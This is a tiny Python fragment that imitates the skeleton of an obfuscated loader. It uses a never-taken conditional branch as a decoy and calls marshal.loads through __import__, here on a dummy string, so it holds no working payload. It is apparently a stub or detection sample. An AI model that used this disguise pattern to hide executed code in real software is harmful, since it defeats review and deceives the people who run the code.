import zlib, socket
socket.inet_ntop(2, "x") if 0 else __import__("marshal").loads("x")
